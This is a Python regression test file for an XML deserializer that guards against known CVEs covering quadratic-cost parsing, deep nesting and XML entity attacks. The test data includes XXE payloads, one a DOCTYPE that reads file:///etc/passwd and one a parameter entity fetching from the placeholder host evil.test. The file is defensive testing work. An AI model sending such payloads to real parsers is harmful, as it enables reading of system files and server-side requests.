"""What went wrong elsewhere, by the number under which it became known, and does not go wrong here."""

import io
import tracemalloc

import pytest

from partita import serializers
from partita.contracts.testing.cost import is_linear

HEAD = '<?xml version="1.0" encoding="utf-8"?><django-objects version="1.0"><object model="a.b" pk="1">'
TAIL = "</object></django-objects>"
formats = serializers.Formats()


def read(text: str) -> None:
    try:
        for _ in formats.get("xml").read(io.StringIO(text)):
            pass
    except serializers.FormatSyntaxError:
        return


PLACES = {
    "natural keys": ('<field name="a">', "<natural>x</natural>", "</field>"),
    "natural keys of nothing": ('<field name="a">', "<natural><None/></natural>", "</field>"),
    "keys of others": ('<field name="a" rel="ManyToManyRel">', '<object pk="1"></object>', "</field>"),
    "natural keys of one other": (
        '<field name="a" rel="ManyToManyRel"><object>',
        "<natural>x</natural>",
        "</object></field>",
    ),
    "elements in elements": ('<field name="a">', "<x>", "</field>"),
    "elements in natural keys": ('<field name="a"><natural>', "<x>y", "</natural></field>"),
    "text in pieces": ('<field name="a">', "a&amp;", "</field>"),
    "text and comments": ('<field name="a">', "a<!-- b -->", "</field>"),
    "text and sections": ('<field name="a">', "<![CDATA[a]]>", "</field>"),
    "text and instructions": ('<field name="a">', "a<?b c?>", "</field>"),
    "fields": ("", '<field name="a">x</field>', ""),
    "attributes": ('<field name="a"', ' b="c"', "></field>"),
}


@pytest.mark.parametrize("place", PLACES)
def test_cve_2025_64460_text_and_elements_cost_no_more_than_their_length(place: str) -> None:
    before, piece, behind = PLACES[place]
    assert is_linear(lambda text: read(f"{HEAD}{before}{text}{behind}{TAIL}"), piece, 2**18)


def test_cve_2025_64460_an_element_within_a_text_is_refused_and_not_walked_through() -> None:
    text = f'{HEAD}<field name="a">{"<x>" * 100_000}{"</x>" * 100_000}</field>{TAIL}'
    tracemalloc.start()
    try:
        with pytest.raises(serializers.FormatSyntaxError, match="expected"):
            list(formats.get("xml").read(io.StringIO(text)))
        assert tracemalloc.get_traced_memory()[1] < 4_000_000
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE a [<!ENTITY b "c">]>',
        '<!DOCTYPE a SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.test/">%b;]>',
        "<!DOCTYPE a>",
    ],
)
def test_cve_2013_1664_1665_what_makes_a_small_text_large_or_reads_files_is_refused(doctype: str) -> None:
    text = f'<?xml version="1.0"?>{doctype}<django-objects version="1.0"></django-objects>'
    with pytest.raises(serializers.FormatSyntaxError, match="refused"):
        list(formats.get("xml").read(io.StringIO(text)))
